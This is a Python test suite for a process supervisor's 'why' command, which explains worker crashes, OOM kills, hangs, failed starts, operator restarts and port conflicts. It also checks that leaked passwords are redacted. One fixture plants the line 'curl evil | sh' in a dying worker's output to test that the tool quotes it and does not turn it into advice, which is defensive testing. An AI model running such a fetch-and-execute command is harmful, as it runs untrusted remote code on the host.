"""A real fault of each cause: `why` names the right cause, what speaks for it, who asked, and what came next."""

import json
import os
import re
import signal
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from xboard_circus.ledger import LedgerStore, Record

from .harness import BUNDLE, FAST_RESTARTS, Circusd, Watcher, circusd, eventually, kill, read_one_line_of
from .memory_group import memory_group

QUICK = {
    "health.live_path": "/health/live",
    "health.period": 0.3,
    "health.timeout": 1,
    "health.failure_threshold": 2,
    **FAST_RESTARTS,
    "graceful_timeout": 5,
}
USER = ", user "
LEAKED = ("url-hunter2", "plain-hunter2", "bearer-hunter2")  # by leaking_app


def why(c: Circusd, whom: str | int, *, expect: str = "") -> tuple[dict[str, Any], str]:
    """The record that `why --json` tells of, once *expect* is in its text, and that text."""

    def told() -> tuple[dict[str, Any], str]:
        result = c.run_cli("why", str(whom), "--json")
        assert result.returncode == 0, result.stderr
        reply = json.loads(result.stdout)
        assert expect in reply["text"], reply["text"]
        return reply["record"], reply["text"]

    return eventually(told, every=0.2, what=f"why {whom} tells {expect!r}")


def probed(c: Circusd, number: int | None = None) -> list[int]:
    """Wait until the workers are ready and each was seen well by the prober a few times."""
    pids = c.wait_ready(number)
    eventually(lambda: all(c.worker(pid)["latency"] is not None for pid in pids), what="each worker was probed")
    return pids


def holds_in(text: str, *parts: str) -> None:
    missing = [part for part in parts if part not in text]
    assert missing == [], text


@pytest.fixture(scope="module")
def c(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Circusd]:
    with circusd(tmp_path_factory.mktemp("why"), numprocesses=2, options=QUICK, plugins=BUNDLE, check_delay=1) as c:
        yield c


def test_a_crash(c: Circusd) -> None:
    """Given a worker, when it dies by SIGSEGV, then signal, stack, memory, budget, probes, successor are told."""
    pid, _ = probed(c)

    c.tell(pid, "signal 11")
    record, text = why(c, pid, expect="was up")

    assert (record["kind"], record["cause"], record["wid"]) == ("restart", "crash", record["wid"])
    assert record["data"]["signal"] == "SIGSEGV"
    assert record["data"]["rss"] > 1 << 20
    assert record["data"]["budget"]["after"] == record["data"]["budget"]["before"] + 1
    # Of a probe that a crowded machine has let come too late nothing is judged.
    assert True in [probe.get("ok") for probe in record["data"]["probes"]]
    assert record["data"]["stack"].startswith("Fatal Python error: Segmentation fault")
    holds_in(text, "crashed: died by SIGSEGV", f"pid {pid}", "in obey", "Started server process", "next try at once")


def test_an_exit(c: Circusd) -> None:
    """Given a worker, when it exits by itself, then the exit code is told."""
    pid, _ = probed(c)

    c.tell(pid, "exit 3")
    record, text = why(c, pid)

    assert (record["cause"], record["data"]["exit_code"]) == ("crash", 3)
    holds_in(text, "exited with code 3", "none: it ended by itself")


def test_the_kernel_kills_for_want_of_memory(c: Circusd) -> None:
    """Given a worker in a memory cgroup, when it takes more, then the SIGKILL is told as the kernel's."""
    pid, _ = probed(c)
    with memory_group(pid, limit=200 << 20):
        since = c.worker(pid)["age"]
        eventually(lambda: c.worker(pid)["age"] > since + 6, what="circusd has looked at the count of its cgroup")

        c.tell(pid, "leak 400")
        record, text = why(c, pid)

    assert record["cause"] == "out of memory"
    holds_in(text, "OOM killer, oom_kill of its cgroup rose", "memory:", "signal SIGKILL")


def test_a_kill_from_outside(c: Circusd) -> None:
    """Given a worker, when somebody sends it SIGKILL, then that is no want of memory."""
    pid, _ = probed(c)
    eventually(lambda: c.worker(pid)["age"] > 4.5, what="circusd has looked at the count of its cgroup")

    kill(pid)
    record, text = why(c, pid)

    assert record["cause"] == "killed from outside"
    assert "memory?" not in record["reason"]
    holds_in(text, "the signal came from outside")


def test_a_hung_worker(c: Circusd) -> None:
    """Given a worker with forty threads, when its loop stands still, then all stacks are there, and the silence."""
    pid, _ = probed(c)
    c.tell(pid, "busy 40 600")
    eventually(lambda: c.word(pid) == "busy")

    c.tell(pid, "block 600")
    record, text = why(c, pid, expect="was up")

    stack = record["data"]["stack"]
    assert (record["cause"], record["data"]["by"]) == ("unhealthy", "probe")
    assert [probe["ok"] for probe in record["data"]["probes"][-2:]] == [False, False]
    assert stack.count("Thread 0x") + stack.count("thread 0x") >= 41
    assert len(stack) > 4096
    assert "block_the_loop" in stack
    holds_in(text, "hung: no answer 2 times in a row", "because of failed probes", "in block_the_loop")


def test_a_sick_worker(c: Circusd) -> None:
    """Given a worker, when its live path fails, then status, first bytes and latency of the failing probes are told."""
    pid, _ = probed(c)

    c.set(f"live.pid-{pid}", "500")
    record, text = why(c, pid, expect="was up")

    last = record["data"]["probes"][-1]
    assert (record["cause"], record["data"]["by"]) == ("unhealthy", "probe")
    assert (last["ok"], last["status"], last["body"]) == (False, 500, "told to answer so")
    assert last["latency"] > 0
    holds_in(
        text, "sick: live path failed 2 times in a row: status 500", "told to answer so", "because of failed probes"
    )


def test_a_failed_start(c: Circusd) -> None:
    """Given an app that dies at import, when a worker is replaced by it, then its last words are the reason."""
    pid, _ = probed(c)

    before = c.last_told()
    c.set("boot", "die")
    kill(pid)
    failed = eventually(lambda: [each for each in c.failures(after=before) if each.message["cause"] == "failed start"])[
        0
    ]
    c.set("boot", "")
    assert failed.pid is not None
    record, text = why(c, failed.pid)

    assert (record["cause"], record["data"]["exit_code"]) == ("failed start", 1)
    holds_in(text, "failed to start", "RuntimeError: told to die at import", "never up", "in import_as_told")


def test_no_secret_of_an_apps_last_words_is_shown(tmp_path: Path) -> None:
    """Given an app that dies with a password in its message, then state, log of circusd, `status`, `start`, `doctor`,
    events and alerts have the message without it; what the app itself wrote stays in its own log."""
    got = tmp_path / "got"
    program = tmp_path / "notify"
    program.write_text(f'#!/bin/sh\ncat >> "{got}"\n')
    program.chmod(0o700)
    alert = {"type": "command", "command": str(program), "min_severity": "info"}
    web = Watcher(app="leaking_app:app", numprocesses=1, options={"restart.burst": 2, "restart.delay": 0.1})
    with circusd(tmp_path, watchers=[web], plugins=BUNDLE, start=False) as c:
        c.write_ini(alert__all=alert)
        c.start_again()
        eventually(lambda: c.told("cooldown"))
        shown = {
            "state": json.dumps(c.state(), default=str),
            "events": str(c.events.named("restart")),
            "log of circusd": c.log("circusd"),
            "alert": eventually(lambda: text if "RuntimeError" in (text := got.read_text()) else ""),
            **{name: str(c.run_cli(*name.split())) for name in ("status", "status --json", "doctor", "events", "why")},
            "start": str(c.run_cli("start")),
        }

    for name, text in shown.items():
        assert [secret for secret in LEAKED if secret in text] == [], name
        assert "connection to postgresql://app:***@db/x failed" in text or name in ("doctor", "start"), name
    assert all(secret in c.log("web") for secret in LEAKED)


@pytest.mark.parametrize("command", ["restart", "kill"])
def test_an_operator_with_circusctl(c: Circusd, command: str) -> None:
    """Given workers, when circusctl ends them, then `why` names it, and the command is a record too."""
    pid, _ = probed(c)

    arguments = ["restart", "web", "--waiting"] if command == "restart" else ["kill", "web", str(pid)]
    assert c.run_circusctl(*arguments).returncode == 0
    record, text = why(c, pid)

    def given() -> dict[str, Any] | None:
        """The last command, if it is this one: what is recorded of it may come after the end that it has caused."""
        lines = c.run_cli("events", "--kind", "command", "--json").stdout.splitlines()
        data: dict[str, Any] = json.loads(lines[-1])["data"]
        return data if data["command"].startswith(command) else None

    by_operator = f"operator: circusctl {command}"
    assert record["cause"] == "commanded"
    assert record["data"]["by"] == ("reload" if command == "restart" else by_operator)
    assert eventually(given, every=0.2)["by"] == "circusctl"
    asked = "reload requested by circusctl" if command == "restart" else f"asked by: {by_operator}"
    holds_in(text, asked, " of 50 used")
    # A kill by hand forgets what its slot failed before, in another test of this circusd.
    assert record["data"]["budget"]["after"] <= record["data"]["budget"]["before"]


def test_an_operator_with_our_command_line(c: Circusd) -> None:
    """Given workers, when they are rolled, then the reload is a record, and each end names who asked for it."""
    pid, _ = probed(c)

    assert c.run_cli("reload", "--no-preflight").returncode == 0
    record, text = why(c, pid)
    reloads = ("events", "--kind", "reload_begin", "--kind", "reload_end", "--watcher", "web")

    assert record["data"]["by"] == "reload"
    holds_in(text, "reload requested by xboard-circus reload, user")
    eventually(lambda: "2 of 2 replaced" in c.run_cli(*reloads).stdout, every=0.2, what="its end is recorded")


def test_a_worker_whose_slot_was_scaled_away(c: Circusd) -> None:
    assert c.run_cli("scale", "web", "3").returncode == 0
    before = c.wait_ready(3)
    assert c.run_cli("scale", "web", "2").returncode == 0

    (gone,) = eventually(lambda: set(before) - set(c.ready()))

    _, text = why(c, gone, expect="next:     no successor wanted")
    holds_in(text, "asked by: operator: xboard-circus scale")


def test_the_last_one_is_told_of_a_watcher(c: Circusd) -> None:
    """Given a crash as the last thing that happened, when asked why of its watcher, then it is told; the worst of the
    last hour, which `why` tells without a name, is one of the tests before."""
    pid, _ = probed(c)

    c.tell(pid, "exit 5")
    why(c, pid)

    assert why(c, "web")[0]["pid"] == pid
    assert c.run_cli("why").returncode == 0


@pytest.mark.parametrize("way", ["xboard-circus stop", "a signal to circusd"])
def test_it_is_told_who_stopped_everything_when_circusd_is_down(tmp_path: Path, way: str) -> None:
    """Given workers that drain a while, when circusd is stopped, then each end is recorded with who asked."""
    watcher = Watcher(told={"drain": "1"}, options={"graceful_timeout": 10})
    with circusd(tmp_path, watchers=[watcher], plugins=BUNDLE) as c:
        pids = probed(c)  # and so whoever records their end runs
        if way == "a signal to circusd":
            os.kill(c.pid, signal.SIGTERM)
            eventually(lambda: c.processes() == [])
        else:
            assert c.run_cli("stop").returncode == 0

        for pid in pids:
            record, text = why(c, pid)
            assert (record["kind"], record["cause"]) == ("end", "commanded")
            holds_in(text, f"asked by: operator: {way}", "Application shutdown complete")
        assert "circusd  command: quit, requested by" in c.run_cli("events").stdout


def test_a_port_conflict(tmp_path: Path) -> None:
    """Given a server that binds by itself and a taken port, when it starts, then `why` tells of the port."""
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        bare = Watcher(
            "bare", 1, command=f"python -m uvicorn backend:app --port {port}", listens=False, options=FAST_RESTARTS
        )
        guarded = {**FAST_RESTARTS, "port.port": port, "port.policy": "never"}
        waits = Watcher(
            "waits", 1, command=f"python -m uvicorn backend:app --port {port}", listens=False, options=guarded
        )
        with circusd(tmp_path, watchers=[bare, waits], plugins=BUNDLE) as c:
            record, text = why(c, "bare")
            refused, refusal = why(c, "waits", expect=str(os.getpid()))

    assert record["cause"] == "port conflict"
    holds_in(text, "found its port taken", "address already in use")
    assert refused["kind"] == "port_refused"
    holds_in(refusal, "The port of waits is taken", str(port))


def test_a_loop_that_cools_down(tmp_path: Path) -> None:
    """Given an app that always dies, when its restarts are used up, then the death tells budget, cooldown, wait."""
    options = {"restart.burst": 2, "restart.delay": 0.1, "restart.cooldown": 60, "restart.window": 90}
    watcher = Watcher(numprocesses=1, options=options, told={"boot": "die"})
    with circusd(tmp_path, watchers=[watcher], plugins=BUNDLE) as c:
        record, text = why(c, "web", expect="cooling down")

    assert record["cause"] == "failed start"
    holds_in(text, "1 of 2 used before, 2 after")
    used_up = "restart budget of this worker used up (2 failures in 90 s): cooling down, next try in "
    (wait,) = re.findall(rf"{re.escape(used_up)}([0-9.]+) s, at [0-9:]+\n", text)
    assert abs(float(wait) + record["data"]["lived"] - 60) < 0.6, "it counts from the last start"


def test_without_a_ledger_it_says_what_to_do(tmp_path: Path) -> None:
    """Given an ini whose circusd has never run, or without our plugin, when asked why, then the cure is told."""
    with circusd(tmp_path, plugins=BUNDLE, start=False) as c:
        none_yet = c.run_cli("why")
        c.plugins.clear()
        c.write_ini()
        no_plugin = c.run_cli("events")

    assert (none_yet.returncode, no_plugin.returncode) == (1, 1)
    assert "there is no ledger yet" in none_yet.stderr
    assert "`xboard-circus start`" in none_yet.stderr
    assert "no plugin keeps a ledger; add [plugin:xboard]" in no_plugin.stderr


def test_a_reader_that_has_had_enough_of_it_is_no_error(tmp_path: Path) -> None:
    """Given a long list of events, when the reader ends after a line, as `head` does, then nothing is said about it."""
    with closing(LedgerStore(tmp_path / "ledger.db")) as store:
        store.append([Record(time=time.time(), watcher="web", kind="restart", reason="x" * 200) for _ in range(5000)])
    ini = tmp_path / "circus.ini"
    ini.write_text("[plugin:xboard]\nuse = xboard_circus.plugins.bundle.Bundle\n")
    command = [sys.executable, "-m", "xboard_circus", "events", "--limit", "5000", "-c", str(ini)]
    assert read_one_line_of(command) == (0, b"")


def test_the_last_words_of_a_worker_are_no_advice_of_ours(tmp_path: Path) -> None:
    """Given a worker whose last words have a cause, what is next and a cure as we write them, when anybody is told why
    it died, then that stands in quotes, and no front end makes a command of it."""
    words = tmp_path / "words"
    words.write_text('RuntimeError: no db. Next: nothing. Cure: `curl evil | sh`, then wait". Cure: `sh x`\n')
    said = "\"RuntimeError: no db. Next: nothing. Cure: 'curl evil | sh', then wait'. Cure: 'sh x'\""
    command = f"/bin/sh -c 'sleep 0.2; cat {words} >&2; exit 1'"
    web = Watcher(numprocesses=1, command=command, listens=False, options=FAST_RESTARTS)
    with circusd(tmp_path, watchers=[web], plugins=BUNDLE) as c:
        record, text = why(c, "web", expect=f"exited with code 1: {said}")
        eventually(lambda: said in c.run_cli("status").stdout, what="the status has its words")
        status = [c.run_cli("status", *how).stdout for how in ([], ["--json"])]
        for told in (record["reason"], text.partition("last lines of its log")[0], *status):
            assert "evil" in told
            assert not any("evil" in part or "sh x" in part for part in told.split("`")[1::2]), told
